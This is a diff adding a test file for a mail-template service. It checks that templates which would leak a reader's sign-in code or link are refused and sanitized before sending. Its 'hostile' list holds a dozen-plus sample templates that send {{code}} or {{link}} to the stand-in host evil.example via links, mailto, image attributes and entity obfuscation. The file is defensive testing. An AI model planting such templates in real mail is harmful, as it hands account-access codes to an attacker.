@@ -1,0 +1,118 @@
+/** Nobody makes the product's own mails carry a code or a link of sign-in to somebody else. */
+import { sql } from "kysely";
+import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";
+import { queueMail } from "#server/platform/mail/outbox.ts";
+import { standardTemplates } from "#server/platform/mail/standard-templates.ts";
+import { templateFault } from "#server/platform/mail/template-rules.ts";
+import { createTestApp, type TestApp } from "#tests/support/app.ts";
+import { makeStaff, type Person } from "#tests/support/factories.ts";
+import { makeWorld, type World } from "#tests/support/sample-values.ts";
+
+let test: TestApp;
+let world: World;
+let template: string;
+
+beforeAll(async () => {
+  test = await createTestApp({ seed: "base" });
+  world = await makeWorld(test.database.db);
+  const { rows } = await sql<{ id: string }>`select id from email_templates
+    where template_key = 'verificationCode' and language_code = 'en'`.execute(world.db);
+  template = rows[0]!.id;
+});
+beforeEach(async () => {
+  await sql`delete from email_outbox`.execute(world.db);
+  await sql`update email_templates set email_subject = 'Your code', email_from_name = '', email_from_email = '',
+    email_message = ${genuine} where id = ${template}`.execute(world.db);
+});
+afterAll(() => test.close());
+
+const save = (data: Record<string, unknown>, person: Person = world.superOwner, tableId = template) =>
+  test.post("saveRecord", { tableName: "emailTemplates", tableId, data }, person.token);
+
+const genuine = "<p>Your code:</p><p>{{code}}</p>";
+/** Messages that would carry the code or link of the reader to a stranger. */
+const hostile = [
+  `${genuine}<a href="https://evil.example/?c={{code}}">Open</a>`,
+  `${genuine}<a href="https://evil.example/{{ code }}">Open</a>`,
+  `${genuine}<a href="https://evil.example">{{code}}</a>`,
+  `${genuine}<a href="https://evil.example"><b>Code {{code}}</b></a>`,
+  `${genuine}<a href="{{link}}.evil.example">Open</a>`,
+  `${genuine}<a href="https://evil.example/?u={{link}}">Open</a>`,
+  `${genuine}<a href="mailto:evil@evil.example?subject={{code}}">Write</a>`,
+  `${genuine}<img src="/{{code}}.png">`,
+  `${genuine}<img alt="{{code}}" src="/x.png">`,
+  `${genuine}<a title="x" target="{{code}}" href="{{link}}">Open</a>`,
+  `${genuine}https://evil.example/?c={{code}}`,
+  `${genuine}https://evil.example/?c=<b>{{code}}</b>`,
+  `${genuine}{{code}}.evil.example`,
+  `${genuine}<p>evil.example/{{link}}</p>`,
+  `${genuine}<a href="https://evil.example/&#123;{code}}">Open</a>`,
+];
+
+it("another organization's Owner changes no template", async () => {
+  for (const emailMessage of [hostile[0], genuine])
+    expect((await save({ emailMessage }, world.owner)).status).toBe(403);
+});
+
+it("a template that gives a secret away is refused, and what is in the database all the same is not sent", async () => {
+  const reader = await makeStaff(world.db, world.own);
+  for (const emailMessage of hostile) {
+    const clean = { emailSubject: "Your code", emailFromName: "Harbor" };
+    expect((await save({ ...clean, emailMessage })).body, emailMessage).toMatchObject({
+      status: 0,
+      errors: { emailMessage: expect.stringMatching(/^\{\{(code|link)\}\} opens an account/) },
+    });
+    await sql`update email_templates set email_message = ${emailMessage},
+      email_from_email = 'evil@evil.example', email_from_name = '{{code}}', email_subject = 'Code {{code}}'
+      where id = ${template}`.execute(world.db);
+    await sql`delete from email_outbox`.execute(world.db);
+    await queueMail(world.db, test.env, {
+      to: reader.email,
+      owner: { accountId: reader.accountId, organizationId: world.own },
+      template: "verificationCode",
+      languageCode: "en",
+      values: { firstName: "Ana", organization: "Harbor", code: "ABCD-EFGH", link: "https://app.example/x" },
+      eventKey: `code:${emailMessage}`,
+    });
+    const { rows } = await sql<Record<string, string | null>>`
+      select body, subject, from_name, from_email from email_outbox`.execute(world.db);
+    const [mail] = rows;
+    expect(mail?.["body"], emailMessage).toContain("<strong>ABCD-EFGH</strong>");
+    expect(mail?.["body"]).not.toContain("evil");
+    expect(mail?.["from_email"]).toBeNull();
+    expect(`${mail?.["subject"]} ${mail?.["from_name"]}`).not.toContain("ABCD");
+  }
+});
+
+it("secrets stand in no subject and no sender's name", async () => {
+  for (const field of ["emailSubject", "emailFromName"])
+    for (const text of ["Code {{code}}", "{{ link }}"])
+      expect((await save({ [field]: text })).body).toMatchObject({
+        status: 0,
+        errors: { [field]: expect.any(String) },
+      });
+  const reset = { emailSubject: "Your code", emailFromName: "{{organization}}", emailMessage: genuine };
+  expect((await save(reset)).body).toMatchObject({ status: 1 });
+});
+
+it("a template that lacks what its mail is for is refused with the name of it", async () => {
+  const message = "The message lacks {{code}}: without it nobody can do what the mail is for.";
+  expect((await save({ emailMessage: "<p>Hello {{firstName}}</p>" })).body).toMatchObject({
+    status: 0,
+    message,
+    errors: { emailMessage: message },
+  });
+  // Empty, the product's own text is sent; a copy is of no mail.
+  expect((await save({ emailMessage: "" })).body).toMatchObject({ status: 1 });
+  const copy = await test.post(
+    "cloneRecord",
+    { tableName: "emailTemplates", tableId: template },
+    world.superOwner.token,
+  );
+  const free = await save({ emailMessage: "<p>x</p>" }, world.superOwner, String(copy.body["recordId"]));
+  expect(free.body).toMatchObject({ status: 1 });
+});
+
+it("the product's own templates keep the rules", () => {
+  for (const one of standardTemplates) expect(templateFault(one.key, { ...one }), one.name).toBeNull();
+});
